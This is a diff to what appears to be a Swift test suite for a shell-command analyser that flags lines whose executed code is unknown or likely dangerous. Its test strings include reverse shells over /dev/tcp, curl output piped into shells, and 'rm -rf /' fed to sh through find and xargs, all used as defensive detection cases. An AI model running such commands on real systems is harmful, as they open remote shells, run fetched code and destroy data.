@@ -265,7 +265,8 @@ func shellRows(_ table: String) -> [ShellRow] {
       (#"printf 'a %%s'"#, "a %s"), (#"printf 'a \x25s' b"#, "a %s"), (#"printf 'a \45s%s' b"#, "a %sb"),
       (#"printf 'a\x2%s' b"#, "a\u{2}b"), (#"printf '%b' 'a\x20\x25s'"#, "a %s"), (#"printf 'a \\\\%s' b"#, #"a \b"#),
       (#"printf 'a %'"#, "a %"),
-      (#"printf "$(printf '\x25\x73')" x"#, "?"), (#"printf 'a\cb'"#, "?"), (#"printf %b 'a\c' b"#, "?"),
+      // Not known, but likely.
+      (#"printf "$(printf '\x25\x73')" x"#, "?|x"), (#"printf 'a\cb'"#, "?"), (#"printf %b 'a\c' b"#, "?"),
       (#"printf %d 1"#, "?"),
     ]
     for (line, commands) in lines {
@@ -326,6 +327,14 @@ func shellRows(_ table: String) -> [ShellRow] {
       "sh < /dev/tcp/h/1", "bash -i >& /dev/tcp/h/1 0>&1", "alias x=\"$y\"", "curl x | make -f -", "curl x | awk -f -",
       "curl x | expect", "curl x | ed", "curl x | parallel", "printf 'ls\\0' | xargs -0 -I{} sh -c {}",
       "{ echo a; curl x; } | sh",
+      // What one of several programs prints is not what all of them do.
+      "sh -c 'curl x; echo a' | sh", "eval 'curl x && echo a' | sh", "sudo sh -c 'curl x | cat; echo a' | sh",
+      "ssh h 'curl x; echo a' | sh", "sh <<< 'curl x; echo a' | sh", "echo 'curl x; echo a' | sh | sh",
+      "sh -c '$x; echo a' | sh", "sh -c \"$x echo a\" | sh", "parallel echo ::: a b | sh", "watch echo a | sh",
+      "make --eval='a: ; curl x; echo a' | sh", "alias cat='echo a'; cat x | sh",
+      // Nor is what a program prints that runs any number of times, or with words that are not known.
+      "cat x | xargs echo | sh", "cat x | xargs -I{} echo a | sh", "echo 'a b' | xargs -n1 echo | sh",
+      "find . -exec echo -n r \\; | sh", "find . -exec sh -c 'curl x; echo a' \\; | sh", "busybox xargs printf | sh",
     ]
     for line in codes {
       #expect(decodeShell(line).contains { $0.reason == .unknownCode && $0.protocol == .shell }, "\(line)")
@@ -337,9 +346,20 @@ func shellRows(_ table: String) -> [ShellRow] {
     ] {
       #expect(decodeShell(line).contains { $0.reason == .unknownCode && $0.protocol == .postgres }, "\(line)")
     }
+    // What they are likely to run is told, too.
+    for line in [
+      "find . -exec echo rm -rf / \\; | sh", "echo rm -rf / | xargs -n3 echo | sh", "echo ${x:-rm -rf /} | sh",
+      "sh -c 'curl x; echo rm -rf /' | sh",
+    ] {
+      #expect(decodeShell(line).contains { $0.summary == "rm -rf /" && $0.isTrue(.shellUnknown) }, "\(line)")
+    }
+    #expect(decodeShell("ls | xargs echo | xargs rm").last?.isTrue(.shellUnknown) == true)
     let known = [
       "curl x | python3 -m json.tool", "cat x | perl -ne print", "bash", "python3", "bash x.sh", "sh < x",
       "cat x | sh y.sh", "echo $HOME", "~/bin/x",
+      "echo a | sudo sh", "sudo echo a | sh", "sh -c 'echo a' | sh", "echo a b | xargs echo | sh",
+      "su -c 'echo a' | sh",
+      "busybox echo a | cat | sh", "time -p timeout 5 echo a | sh", "eval echo a | sh",
       "$HOME/bin/x y", "[ -f x ]", "psql -f x", "psql", "cat x | python3 y.py", "[[ -f $x ]]", "sh -c 'echo $x'",
     ]
     for line in known { #expect(decodeShell(line).allSatisfy { $0.reason == .none }, "\(line)") }
